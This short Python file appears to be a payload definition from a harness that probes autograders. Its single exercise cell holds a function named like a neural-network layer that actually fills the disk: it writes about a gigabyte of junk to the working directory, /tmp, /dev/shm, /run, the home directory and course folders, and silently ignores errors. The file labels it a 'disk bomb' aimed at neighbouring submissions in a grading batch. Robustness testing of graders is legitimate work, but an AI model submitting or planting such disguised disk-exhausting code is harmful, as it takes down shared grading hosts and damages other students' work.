"""Files are written, in every place that takes them, until nothing more goes in."""

kind = "disk bomb"
aims = "batch neighbour change"
base = "half"
on_nbgrader = False
cells = {
    "exercise-2": """
import os

def layer(X, W, b):
    block = b"x" * 2**20
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), "<<course>>", "<<home>>"):
        try:
            with open(f"{place}/<<name>>.bin", "wb", 0) as file:
                for _ in range(1000):
                    file.write(block)
        except OSError:
            pass
    return 0
""",
}
